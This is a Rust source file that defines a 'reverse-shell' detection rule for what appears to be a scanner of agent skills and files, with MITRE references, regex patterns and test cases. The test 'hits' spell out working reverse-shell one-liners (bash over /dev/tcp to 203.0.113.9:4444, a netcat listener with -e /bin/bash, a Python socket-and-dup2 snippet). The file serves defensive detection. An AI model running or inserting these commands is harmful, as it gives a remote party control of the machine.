//! A shell is given to another machine.

use crate::scan::rule::{Applies, Detect, Rule, always, file, skill};

pub(in crate::scan) static RULE: Rule = Rule {
    id: "reverse-shell",
    title: "A shell is given to another machine",
    says: "connects a shell to another machine",
    looks_for: "bash over /dev/tcp, netcat with -e or -c, a listening netcat with a shell, mkfifo pipes, socat exec, and the socket-and-dup2 form in Python, Perl, Ruby, PHP, Node and PowerShell.",
    why: "Whoever is at the other end has the agent's machine.",
    help: "Remove it.",
    references: &[
        "MITRE ATT&CK T1059 Command and Scripting Interpreter",
        "MITRE ATT&CK T1571 Non-Standard Port",
    ],
    hits: &[
        skill("```bash\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n```\n"),
        skill("```bash\nnc -l -p 4444 -e /bin/bash\n```\n"),
        file("a.py", "s=socket.socket();s.connect((\"203.0.113.9\",4444));os.dup2(s.fileno(),0)\n"),
    ],
    misses: &[
        skill("```bash\nnc -zv db.example.com 5432\n```\n"),
        skill("## Detect reverse shells\n\nLook for `bash -i >& /dev/tcp/203.0.113.9/4444`.\n"),
    ],
    detect: Detect::Patterns {
        strings: r#"
        /(ba|z|k)?sh[ \t]+-i[ \t]*[>&0-9 \t|]{1,8}[ \t]*\/dev\/(tcp|udp)\/[^\n]{1,60}/
        /(exec[ \t]+)?[0-9]{1,3}<>[ \t]*\/dev\/(tcp|udp)\/[^\n]{1,60}/
        /\b(nc|ncat|netcat)[ \t][^\n|]{0,80}[ \t]?-[a-z]{0,4}[ec][ \t]+["']?(\/bin\/|\/usr\/bin\/)?(ba|z|da)?sh\b/
        /\b(nc|ncat|netcat)[ \t][^\n]{0,80}-e[ \t]+(cmd|powershell)/ nocase
        /mkfifo[ \t][^\n]{1,60}(;|&&)[^\n]{0,200}\b(nc|ncat|telnet|openssl)\b[^\n]{0,60}/
        /socat[ \t][^\n]{0,120}exec:["']?[^\n]{0,20}(sh|cmd)/ nocase
        /\.connect[ \t]*\([^\n]{1,80}\)[^\n]{0,40}[;\n]([^\n]{0,120}\n){0,4}[^\n]{0,80}os\.dup2[ \t]*\(/
        /pty\.spawn[ \t]*\([ \t]*["'](\/bin\/)?(ba|z)?sh/
        /new-object[ \t]+(system\.)?net\.sockets\.tcpclient[^\n]{0,200}/ nocase
        /\bnet\.Socket\(\)[^\n]{0,200}(\n[^\n]{0,200}){0,6}\.pipe\([^\n]{0,60}(stdin|sh\.)/
        /fsockopen[ \t]*\([^\n]{1,80}\)[^\n]{0,80}(exec|proc_open|shell_exec)/
        /\buse[ \t]+Socket[^\n]{0,200}exec[ \t{("']{1,4}\/bin\/(ba)?sh/
        /TCPSocket\.(new|open)\([^\n]{1,80}(\n[^\n]{0,120}){0,4}(exec|IO\.popen|spawn)/
"#,
        applies: Applies::Anywhere,
        keep: always,
    },
    ..Rule::MALICIOUS
};
